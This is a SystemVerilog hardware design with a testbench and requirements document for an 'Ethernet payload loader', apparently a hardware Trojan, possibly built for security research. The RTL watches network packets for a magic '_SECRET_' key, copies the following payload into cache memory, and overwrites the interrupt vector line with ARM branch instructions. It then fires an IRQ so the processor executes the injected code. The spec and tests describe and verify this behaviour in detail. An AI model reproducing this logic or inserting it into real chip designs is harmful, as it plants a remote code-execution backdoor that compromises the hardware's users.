// File: rtl/eth_loader_pkg.sv
// rtl/eth_loader_pkg.sv - shared constants and FSM encodings for the Ethernet payload loader
package eth_loader_pkg;

  localparam logic [63:0]  DEF_KEY       = 64'h5f534543_5245545f;
  localparam logic [31:0]  DEF_END_WORD  = 32'h53544F50;
  localparam logic [31:0]  DEF_PAD_WORD  = 32'h58595859;
  localparam logic [31:0]  DEF_BASE_ADDR = 32'h00200000;
  localparam logic [31:0]  DEF_VEC_ADDR  = 32'h00000010;
  localparam logic [127:0] DEF_VEC_DATA  = 128'hea000040_ea000036_ea000042_e3a0f602;

  // M_KEY stands for every KEY_k state; the matcher tracks k in a separate index.
  typedef enum logic [1:0] {
    M_HUNT,
    M_KEY,
    M_CAPTURE,
    M_COMMIT
  } match_state_t;

  typedef enum logic [2:0] {
    W_IDLE,
    W_COPY,
    W_VECTOR,
    W_TRIGGER,
    W_DONE
  } write_state_t;

endpackage

// File: rtl/eth_key_matcher.sv
// rtl/eth_key_matcher.sv - key sequence hunt, payload word capture and terminator detection
module eth_key_matcher
  import eth_loader_pkg::*;
#(
  parameter int                    KEY_WORDS = 2,
  parameter logic [32*KEY_WORDS-1:0] KEY     = DEF_KEY,
  parameter logic [31:0]           END_WORD  = DEF_END_WORD
) (
  input  logic        i_clk,
  input  logic        i_rst,
  input  logic [31:0] rx_data,
  input  logic        rx_valid,
  input  logic        rx_reset,
  input  logic        hold,
  output logic [31:0] cap_data,
  output logic        cap_valid,
  output logic        commit,
  output logic        abort
);

  localparam int            IW       = (KEY_WORDS > 1) ? $clog2(KEY_WORDS) : 1;
  localparam logic [31:0]   KEY0     = KEY[32*KEY_WORDS-1 -: 32];
  localparam logic [IW-1:0] LAST_IDX = IW'(KEY_WORDS - 1);

  match_state_t  state, state_nx;
  logic [IW-1:0] idx, idx_nx;
  logic [31:0]   key_exp;
  logic          word;

  assign word = rx_valid && !rx_reset && !hold;

  always_comb begin
    key_exp = KEY0;
    for (int k = 0; k < KEY_WORDS; k++) begin
      if (idx == IW'(k)) key_exp = KEY[32*(KEY_WORDS-1-k) +: 32];
    end
  end

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      state <= M_HUNT;
      idx   <= '0;
    end else begin
      state <= state_nx;
      idx   <= idx_nx;
    end
  end

  always_comb begin
    state_nx = state;
    idx_nx   = idx;
    if (hold) begin
      state_nx = M_HUNT;
    end else begin
      case (state)
        M_HUNT: begin
          if (word && rx_data == KEY0) begin
            if (KEY_WORDS == 1) begin
              state_nx = M_CAPTURE;
            end else begin
              state_nx = M_KEY;
              idx_nx   = IW'(1);
            end
          end
        end
        M_KEY: begin
          if (rx_reset) begin
            state_nx = M_HUNT;
          end else if (word) begin
            if (rx_data == key_exp) begin
              if (idx == LAST_IDX) state_nx = M_CAPTURE;
              else                 idx_nx   = idx + 1'b1;
            end else if (rx_data == KEY0) begin
              // A stray key word 0 re-arms the match instead of losing it.
              idx_nx = IW'(1);
            end else begin
              state_nx = M_HUNT;
            end
          end
        end
        M_CAPTURE: begin
          if (rx_reset)                          state_nx = M_HUNT;
          else if (word && rx_data == END_WORD)  state_nx = M_COMMIT;
        end
        M_COMMIT: state_nx = M_HUNT;
        default:  state_nx = M_HUNT;
      endcase
    end
  end

  always_comb begin
    cap_data  = rx_data;
    cap_valid = (state == M_CAPTURE) && word && (rx_data != END_WORD);
    commit    = (state == M_COMMIT);
    abort     = !hold && rx_reset && (state == M_KEY || state == M_CAPTURE);
  end

endmodule

// File: rtl/eth_payload_loader.sv
// rtl/eth_payload_loader.sv - captures a keyed RX payload and writes it to cache lines;
// ETH_LOADER_IRQ_EN adds the vector-line write and trigger IRQ.
module eth_payload_loader
  import eth_loader_pkg::*;
#(
  parameter int                      KEY_WORDS = 2,
  parameter logic [32*KEY_WORDS-1:0] KEY       = DEF_KEY,
  parameter logic [31:0]             END_WORD  = DEF_END_WORD,
  parameter int                      LINES     = 6,
  parameter logic [31:0]             BASE_ADDR = DEF_BASE_ADDR,
  parameter logic [31:0]             VEC_ADDR  = DEF_VEC_ADDR,
  parameter logic [127:0]            VEC_DATA  = DEF_VEC_DATA,
  parameter logic [31:0]             PAD_WORD  = DEF_PAD_WORD
) (
  input  logic         i_clk,
  input  logic         i_rst,
  input  logic [31:0]  i_rx_packet_data,
  input  logic         i_rx_packet_data_valid,
  input  logic         i_rx_packet_reset,
  input  logic         i_cache_stall,
  input  logic         i_fetch_stall,
  output logic         o_troj,
  output logic [127:0] o_troj_write_data,
  output logic [31:0]  o_troj_write_addr,
  output logic         o_troj_trigger_irq,
  output logic [31:0]  o_troj_jump_addr,
  output logic         o_busy,
  output logic         o_overflow
);

  localparam int             LW        = (LINES > 1) ? $clog2(LINES) : 1;
  localparam int             CW        = $clog2(LINES*4 + 1);
  localparam logic [CW-1:0]  MAX_WORDS = CW'(LINES*4);
  localparam logic [LW-1:0]  LAST_LINE = LW'(LINES - 1);
  localparam logic [127:0]   PAD_LINE  = {4{PAD_WORD}};

  logic [127:0]  store [LINES];
  logic [CW-1:0] wcnt;
  logic [LW-1:0] line_idx;
  logic          overflow;
  write_state_t  wstate, wstate_nx;
  logic [31:0]   cap_data;
  logic          cap_valid, commit, abort, accept;

  eth_key_matcher #(
    .KEY_WORDS (KEY_WORDS),
    .KEY       (KEY),
    .END_WORD  (END_WORD)
  ) u_matcher (
    .i_clk     (i_clk),
    .i_rst     (i_rst),
    .rx_data   (i_rx_packet_data),
    .rx_valid  (i_rx_packet_data_valid),
    .rx_reset  (i_rx_packet_reset),
    .hold      (o_busy),
    .cap_data  (cap_data),
    .cap_valid (cap_valid),
    .commit    (commit),
    .abort     (abort)
  );

  assign accept = o_troj && !i_cache_stall;

  always_ff @(posedge i_clk) begin
    if (i_rst) wstate <= W_IDLE;
    else       wstate <= wstate_nx;
  end

  always_comb begin
    wstate_nx = wstate;
    case (wstate)
      W_IDLE:    if (commit) wstate_nx = W_COPY;
      W_COPY: begin
        if (accept && line_idx == LAST_LINE) begin
`ifdef ETH_LOADER_IRQ_EN
          wstate_nx = W_VECTOR;
`else
          wstate_nx = W_DONE;
`endif
        end
      end
      W_VECTOR:  if (accept) wstate_nx = W_TRIGGER;
      W_TRIGGER: if (!i_fetch_stall) wstate_nx = W_DONE;
      W_DONE:    wstate_nx = W_IDLE;
      default:   wstate_nx = W_IDLE;
    endcase
  end

  always_comb begin
    o_busy            = (wstate != W_IDLE);
    o_troj            = (wstate == W_COPY) || (wstate == W_VECTOR);
    o_troj_write_data = (wstate == W_VECTOR) ? VEC_DATA : store[line_idx];
    o_troj_write_addr = (wstate == W_VECTOR) ? VEC_ADDR : BASE_ADDR + (32'(line_idx) << 4);
`ifdef ETH_LOADER_IRQ_EN
    o_troj_trigger_irq = (wstate == W_TRIGGER) && !i_fetch_stall;
`else
    o_troj_trigger_irq = 1'b0;
`endif
    o_troj_jump_addr  = BASE_ADDR;
    o_overflow        = overflow;
  end

  // Store, word counter and line pointer; capture cannot coincide with copy since the matcher is held while busy.
  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      line_idx <= '0;
      wcnt     <= '0;
      overflow <= 1'b0;
      for (int l = 0; l < LINES; l++) store[l] <= PAD_LINE;
    end else begin
      if (wstate == W_COPY && accept)
        line_idx <= (line_idx == LAST_LINE) ? '0 : line_idx + 1'b1;

      if (wstate == W_DONE) begin
        overflow <= 1'b0;
        wcnt     <= '0;
        for (int l = 0; l < LINES; l++) store[l] <= PAD_LINE;
      end else if (abort) begin
        wcnt <= '0;
        for (int l = 0; l < LINES; l++) store[l] <= PAD_LINE;
      end else if (commit) begin
        wcnt <= '0;
      end else if (cap_valid) begin
        if (wcnt != MAX_WORDS) begin
          store[wcnt[LW+1:2]][{wcnt[1:0], 5'b0} +: 32] <= cap_data;
          wcnt <= wcnt + 1'b1;
        end else begin
          overflow <= 1'b1;
        end
      end
    end
  end

endmodule

// File: tb/tb_eth_payload_loader.sv
// tb/tb_eth_payload_loader.sv - table, directed and randomized checks of eth_payload_loader
module tb_eth_payload_loader;

  localparam int           LINES    = 6;
  localparam logic [31:0]  K0       = 32'h5f534543;
  localparam logic [31:0]  K1       = 32'h5245545f;
  localparam logic [31:0]  ENDW     = 32'h53544F50;
  localparam logic [31:0]  PAD      = 32'h58595859;
  localparam logic [31:0]  BASE     = 32'h00200000;
  localparam logic [31:0]  VEC_A    = 32'h00000010;
  localparam logic [127:0] VEC_D    = 128'hea000040_ea000036_ea000042_e3a0f602;
  localparam logic [127:0] PAD_LINE = {PAD, PAD, PAD, PAD};
`ifdef ETH_LOADER_IRQ_EN
  localparam int IRQ_EN = 1;
`else
  localparam int IRQ_EN = 0;
`endif
  localparam int NWR = LINES + IRQ_EN;

  logic         clk = 1'b0;
  logic         rst = 1'b1;
  logic [31:0]  rx_data = '0;
  logic         rx_valid = 1'b0, rx_reset = 1'b0;
  logic         cache_stall = 1'b0, fetch_stall = 1'b0;
  logic         o_troj, o_irq, o_busy, o_overflow;
  logic [127:0] o_wdata;
  logic [31:0]  o_waddr, o_jump;

  always #5 clk = ~clk;

  eth_payload_loader dut (
    .i_clk                  (clk),
    .i_rst                  (rst),
    .i_rx_packet_data       (rx_data),
    .i_rx_packet_data_valid (rx_valid),
    .i_rx_packet_reset      (rx_reset),
    .i_cache_stall          (cache_stall),
    .i_fetch_stall          (fetch_stall),
    .o_troj                 (o_troj),
    .o_troj_write_data      (o_wdata),
    .o_troj_write_addr      (o_waddr),
    .o_troj_trigger_irq     (o_irq),
    .o_troj_jump_addr       (o_jump),
    .o_busy                 (o_busy),
    .o_overflow             (o_overflow)
  );

  int           n_cmp = 0, n_fail = 0;
  logic [31:0]  pkt_q[$];
  logic [31:0]  wr_addr_q[$], exp_addr_q[$];
  logic [127:0] wr_data_q[$], exp_data_q[$];
  int           irq_cnt, exp_irq;
  bit           ovf_seen, exp_ovf;
  bit           stall_rand = 0, fetch_rand = 0;

  typedef struct {
    logic [0:5][31:0] w;
    int               n;
    int               rst_at;
    int               exp_wr;
    logic [127:0]     line0;
  } vec_t;
  vec_t tbl[6];

  always @(negedge clk) begin
    if (!rst) begin
      if (o_troj && !cache_stall) begin
        wr_addr_q.push_back(o_waddr);
        wr_data_q.push_back(o_wdata);
      end
      if (o_irq) irq_cnt++;
      if (o_overflow) ovf_seen = 1;
    end
  end

  always @(posedge clk) begin
    #2;
    if (stall_rand) cache_stall = ($urandom_range(0, 2) == 0);
    if (fetch_rand) fetch_stall = ($urandom_range(0, 3) != 0);
  end

  task tick;
    @(posedge clk);
    #1;
  endtask

  task chk(input string name, input logic [127:0] act, input logic [127:0] exp);
    n_cmp++;
    if (act !== exp) begin
      n_fail++;
      $display("FAIL %s: got %h expected %h", name, act, exp);
    end
  endtask

  task clear_log;
    wr_addr_q.delete();
    wr_data_q.delete();
    irq_cnt  = 0;
    ovf_seen = 0;
  endtask

  task send_pkt(input int gap_max, input int rst_at);
    for (int i = 0; i < pkt_q.size(); i++) begin
      if (i == rst_at) begin
        rx_reset = 1'b1;
        tick;
        rx_reset = 1'b0;
      end
      repeat ($urandom_range(0, gap_max)) tick;
      rx_data  = pkt_q[i];
      rx_valid = 1'b1;
      tick;
      rx_valid = 1'b0;
    end
  endtask

  task wait_idle;
    int c;
    repeat (3) tick;
    c = 0;
    while (o_busy && c < 3000) begin
      tick;
      c++;
    end
    chk("idle_timeout", o_busy, 1'b0);
    tick;
  endtask

  // Reference: payload follows the first contiguous key occurrence up to the terminator.
  task automatic model;
    logic [31:0] words [LINES*4];
    int start, n, j;
    exp_addr_q.delete();
    exp_data_q.delete();
    exp_ovf = 0;
    exp_irq = 0;
    start   = -1;
    for (int i = 0; i + 1 < pkt_q.size(); i++)
      if (start < 0 && pkt_q[i] == K0 && pkt_q[i+1] == K1) start = i + 2;
    if (start < 0) return;
    for (int i = 0; i < LINES*4; i++) words[i] = PAD;
    n = 0;
    j = start;
    while (j < pkt_q.size() && pkt_q[j] != ENDW) begin
      if (n < LINES*4) words[n] = pkt_q[j];
      n++;
      j++;
    end
    if (j >= pkt_q.size()) return;
    exp_ovf = (n > LINES*4);
    for (int l = 0; l < LINES; l++) begin
      exp_addr_q.push_back(BASE + 32'(16*l));
      exp_data_q.push_back({words[4*l+3], words[4*l+2], words[4*l+1], words[4*l]});
    end
    if (IRQ_EN != 0) begin
      exp_addr_q.push_back(VEC_A);
      exp_data_q.push_back(VEC_D);
    end
    exp_irq = IRQ_EN;
  endtask

  task compare_log(input string tag);
    chk({tag, "_nwr"}, wr_addr_q.size(), exp_addr_q.size());
    for (int i = 0; i < exp_addr_q.size() && i < wr_addr_q.size(); i++) begin
      chk($sformatf("%s_addr%0d", tag, i), wr_addr_q[i], exp_addr_q[i]);
      chk($sformatf("%s_data%0d", tag, i), wr_data_q[i], exp_data_q[i]);
    end
    chk({tag, "_irq"}, irq_cnt, exp_irq);
    chk({tag, "_ovf"}, ovf_seen, exp_ovf);
  endtask

  task set_row(input int t, input logic [191:0] w, input int n, input int rst_at,
               input int exp_wr, input logic [127:0] line0);
    tbl[t].w      = w;
    tbl[t].n      = n;
    tbl[t].rst_at = rst_at;
    tbl[t].exp_wr = exp_wr;
    tbl[t].line0  = line0;
  endtask

  initial begin
    set_row(0, {K0, K1, 32'h11111111, 32'h22222222, ENDW, 32'h0}, 5, -1, NWR,
            {PAD, PAD, 32'h22222222, 32'h11111111});
    set_row(1, {K0, K0, K1, 32'hAAAAAAAA, ENDW, 32'h0}, 5, -1, NWR,
            {PAD, PAD, PAD, 32'hAAAAAAAA});
    set_row(2, {K0, K1, 32'h1, 32'h2, 32'h3, ENDW}, 6, 5, 0, PAD_LINE);
    set_row(3, {32'h12345678, K1, K0, K1, 32'hCAFEF00D, ENDW}, 6, -1, NWR,
            {PAD, PAD, PAD, 32'hCAFEF00D});
    set_row(4, {K0, K1, ENDW, 96'h0}, 3, -1, NWR, PAD_LINE);
    set_row(5, {K0, 32'h1, K1, 32'h2, ENDW, 32'h0}, 5, -1, 0, PAD_LINE);

    // Reset state
    repeat (3) tick;
    chk("rst_troj", o_troj, 1'b0);
    chk("rst_wdata", o_wdata, PAD_LINE);
    chk("rst_waddr", o_waddr, BASE);
    chk("rst_irq", o_irq, 1'b0);
    chk("rst_busy", o_busy, 1'b0);
    chk("rst_ovf", o_overflow, 1'b0);
    chk("jump_addr", o_jump, BASE);
    rst = 1'b0;
    tick;

    // Table vectors
    for (int t = 0; t < 6; t++) begin
      clear_log;
      pkt_q.delete();
      for (int i = 0; i < tbl[t].n; i++) pkt_q.push_back(tbl[t].w[i]);
      send_pkt(1, tbl[t].rst_at);
      wait_idle;
      chk($sformatf("tbl%0d_nwr", t), wr_addr_q.size(), tbl[t].exp_wr);
      chk($sformatf("tbl%0d_irq", t), irq_cnt, (tbl[t].exp_wr > 0) ? IRQ_EN : 0);
      if (tbl[t].exp_wr > 0 && wr_addr_q.size() == tbl[t].exp_wr) begin
        chk($sformatf("tbl%0d_addr0", t), wr_addr_q[0], BASE);
        chk($sformatf("tbl%0d_line0", t), wr_data_q[0], tbl[t].line0);
        for (int l = 1; l < LINES; l++)
          chk($sformatf("tbl%0d_line%0d", t, l), wr_data_q[l], PAD_LINE);
        chk($sformatf("tbl%0d_last_addr", t), wr_addr_q[NWR-1],
            (IRQ_EN != 0) ? VEC_A : BASE + 32'h50);
      end
    end

    // Commit latency and a 3-cycle cache stall on line 2
    begin
      int c;
      clear_log;
      pkt_q = {K0, K1};
      for (int i = 1; i <= 9; i++) pkt_q.push_back(32'hA0 + 32'(i));
      pkt_q.push_back(ENDW);
      model;
      send_pkt(0, -1);
      chk("commit_troj0", o_troj, 1'b0);
      tick;
      chk("copy_troj1", o_troj, 1'b1);
      chk("copy_addr0", o_waddr, BASE);
      c = 0;
      while (!(o_troj && o_waddr == BASE + 32'h20) && c < 50) begin
        tick;
        c++;
      end
      chk("line2_reached", o_waddr, BASE + 32'h20);
      cache_stall = 1'b1;
      for (int k = 0; k < 3; k++) begin
        chk($sformatf("stall_addr%0d", k), o_waddr, BASE + 32'h20);
        chk($sformatf("stall_data%0d", k), o_wdata, exp_data_q[2]);
        tick;
      end
      cache_stall = 1'b0;
      #1;
      chk("stall_addr3", o_waddr, BASE + 32'h20);
      tick;
      chk("post_stall_addr", o_waddr, BASE + 32'h30);
      wait_idle;
      compare_log("stall");
    end

    // Overflow: 30 payload words with 24 slots
    clear_log;
    pkt_q = {K0, K1};
    for (int i = 0; i < 30; i++) pkt_q.push_back(32'h10000000 + 32'(i));
    pkt_q.push_back(ENDW);
    model;
    send_pkt(0, -1);
    tick;
    chk("ovf_set", o_overflow, 1'b1);
    wait_idle;
    chk("ovf_cleared", o_overflow, 1'b0);
    compare_log("ovf");

    // Fetch stall held during TRIGGER
    begin
      int c;
      clear_log;
      fetch_stall = 1'b1;
      pkt_q = {K0, K1, 32'h55555555, ENDW};
      model;
      send_pkt(0, -1);
`ifdef ETH_LOADER_IRQ_EN
      c = 0;
      while (!(o_troj && o_waddr == VEC_A) && c < 50) begin
        tick;
        c++;
      end
      chk("vec_reached", o_waddr, VEC_A);
      tick;
      for (int k = 0; k < 5; k++) begin
        chk($sformatf("trig_hold%0d", k), o_irq, 1'b0);
        tick;
      end
      fetch_stall = 1'b0;
      #1;
      chk("trig_pulse", o_irq, 1'b1);
      tick;
      chk("trig_after", o_irq, 1'b0);
`else
      c = 0;
      repeat (20) begin
        tick;
        if (o_irq) c++;
      end
      chk("no_irq_stalled", c, 0);
      fetch_stall = 1'b0;
`endif
      wait_idle;
      compare_log("fetch");
    end

    // Randomized packets against the reference model
    stall_rand = 1;
    fetch_rand = 1;
    for (int r = 0; r < 10; r++) begin
      logic [31:0] w;
      clear_log;
      pkt_q.delete();
      repeat ($urandom_range(0, 3)) begin
        w = $urandom;
        if (w == K0 || w == ENDW) w = 32'h0;
        pkt_q.push_back(w);
      end
      if ($urandom_range(0, 1) == 1) pkt_q.push_back(K0);
      pkt_q.push_back(K0);
      pkt_q.push_back(K1);
      repeat ($urandom_range(0, 30)) begin
        w = $urandom;
        if (w == ENDW) w = 32'h1;
        pkt_q.push_back(w);
      end
      pkt_q.push_back(ENDW);
      model;
      send_pkt(2, -1);
      wait_idle;
      compare_log($sformatf("rnd%0d", r));
    end
    stall_rand  = 0;
    fetch_rand  = 0;
    tick;
    cache_stall = 1'b0;
    fetch_stall = 1'b0;

    // Reset in the middle of a copy
    begin
      int c;
      pkt_q = {K0, K1, 32'h77777777, ENDW};
      send_pkt(0, -1);
      c = 0;
      while (!(o_troj && o_waddr == BASE + 32'h10) && c < 50) begin
        tick;
        c++;
      end
      chk("mid_line1", o_waddr, BASE + 32'h10);
      rst = 1'b1;
      tick;
      chk("mid_rst_troj", o_troj, 1'b0);
      chk("mid_rst_busy", o_busy, 1'b0);
      chk("mid_rst_addr", o_waddr, BASE);
      chk("mid_rst_data", o_wdata, PAD_LINE);
      rst = 1'b0;
      tick;
      tick;
      chk("mid_rst_stay", o_troj, 1'b0);
    end

    $display("*** SUMMARY: %0d compared / %0d mismatched ***", n_cmp, n_fail);
    $finish;
  end

  initial begin
    #900000;
    $display("FAIL watchdog: simulation did not finish, got timeout expected completion");
    $fatal(1);
  end

endmodule

// File: doc/eth_payload_loader.md
ETH_PAYLOAD_LOADER -- requirements
Module: eth_payload_loader

Interface
REQ-001 Parameter KEY_WORDS, default 2, number of 32-bit key words preceding payload.
REQ-002 Parameter KEY, default 64'h5f534543_5245545f, key words with word 0 in the most-significant 32 bits.
REQ-003 Parameter END_WORD, default 32'h53544F50, payload terminator.
REQ-004 Parameter LINES, default 6, payload store depth in 128-bit cache lines (1..16).
REQ-005 Parameter BASE_ADDR, default 32'h00200000, cache address of line 0.
REQ-006 Parameter VEC_ADDR, default 32'h00000010, vector line address; VEC_DATA, default 128'hea000040_ea000036_ea000042_e3a0f602, vector line contents.
REQ-007 Parameter PAD_WORD, default 32'h58595859, fill for words not received.
REQ-008 i_clk  in  1  single clock, all logic on rising edge.
REQ-009 i_rst  in  1  synchronous, active-high reset.
REQ-010 i_rx_packet_data  in  32  RX word; i_rx_packet_data_valid  in  1  word strobe; i_rx_packet_reset  in  1  packet abort/start.
REQ-011 i_cache_stall  in  1  cache not accepting write; i_fetch_stall  in  1  core fetch stalled.
REQ-012 o_troj  out  1  write request; o_troj_write_data  out  128; o_troj_write_addr  out  32.
REQ-013 o_troj_trigger_irq  out  1  one-cycle IRQ pulse; o_troj_jump_addr  out  32  constant BASE_ADDR.
REQ-014 o_busy  out  1  write FSM not IDLE; o_overflow  out  1  sticky, payload exceeded LINES*4 words.

Function
REQ-015 An RX word SHALL count only when i_rx_packet_data_valid=1 and i_rx_packet_reset=0.
REQ-016 Match FSM states: HUNT, KEY_k (k=1..KEY_WORDS-1), CAPTURE, COMMIT; HUNT->KEY_1 on key word 0; each further key word advances; after the last key word, go to CAPTURE.
REQ-017 A key mismatch SHALL return to HUNT, or to KEY_1 if the mismatching word equals key word 0.
REQ-018 In CAPTURE, word n SHALL be stored in line n/4, bits [32*(n%4)+31 : 32*(n%4)]; words beyond LINES*4 SHALL be dropped and SHALL set o_overflow.
REQ-019 END_WORD in CAPTURE SHALL not be stored and SHALL move to COMMIT for exactly one cycle, then HUNT.
REQ-020 i_rx_packet_reset=1 in KEY_k or CAPTURE SHALL discard the capture (word count 0, store refilled with PAD_WORD) and return to HUNT.
REQ-021 While o_busy=1 the match FSM SHALL be held in HUNT and RX words ignored.
REQ-022 Write FSM states: IDLE, COPY, VECTOR, TRIGGER, DONE; IDLE->COPY on COMMIT.
REQ-023 On the cycle after COMMIT, o_troj=1 with line 0 at BASE_ADDR.
REQ-024 A line is accepted on a cycle with o_troj=1 and i_cache_stall=0; line i+1 at BASE_ADDR+16*(i+1) SHALL be presented next cycle; data/addr SHALL hold while stalled.
REQ-025 All LINES lines SHALL be written; unreceived words SHALL be PAD_WORD.
REQ-026 After the last line is accepted: VECTOR presents VEC_DATA at VEC_ADDR; on acceptance o_troj=0, go to TRIGGER.
REQ-027 TRIGGER SHALL pulse o_troj_trigger_irq for one cycle on the first cycle with i_fetch_stall=0, then DONE; DONE->IDLE next cycle, clearing store to PAD_WORD and o_overflow.

Reset
REQ-028 i_rst SHALL abort any operation mid-flight and set: o_troj=0, o_troj_write_data=all PAD_WORD, o_troj_write_addr=BASE_ADDR, o_troj_trigger_irq=0, o_busy=0, o_overflow=0, both FSMs idle/HUNT, store=PAD_WORD.

Configuration
REQ-029 Macro ETH_LOADER_IRQ_EN defined: VECTOR and TRIGGER behaviour as above.
REQ-030 Macro undefined: COPY->DONE directly after last line; VEC_ADDR never written; o_troj_trigger_irq tied 0.

Structure
REQ-031 FSM state encodings, default KEY/END_WORD/PAD_WORD/VEC constants SHALL live in shared package eth_loader_pkg.
REQ-032 Key/terminator detection SHALL be sub-module eth_key_matcher (outputs capture word+strobe, commit, abort).

Verification
REQ-033 Words 5f534543,5245545f,11111111,22222222,53544F50 -> line0 at 00200000 = 58595859_58595859_22222222_11111111; lines 1..5 all PAD; then VEC_DATA at 00000010; one IRQ pulse.
REQ-034 i_cache_stall high 3 cycles during line 2 -> addr 00200020 and data held 4 cycles; no line skipped or duplicated.
REQ-035 Words 5f534543,5f534543,5245545f,AAAAAAAA,53544F50 -> match succeeds (re-arm), line0 word0=AAAAAAAA.
REQ-036 Key, 3 words, i_rx_packet_reset=1, END_WORD -> no write; o_troj stays 0.
REQ-037 Key, 30 words, END_WORD with LINES=6 -> o_overflow=1, words 24..29 absent; clears at DONE.
REQ-038 i_fetch_stall high 5 cycles in TRIGGER -> IRQ pulse on first cycle stall low; ETH_LOADER_IRQ_EN undefined -> no write at 00000010, no pulse.
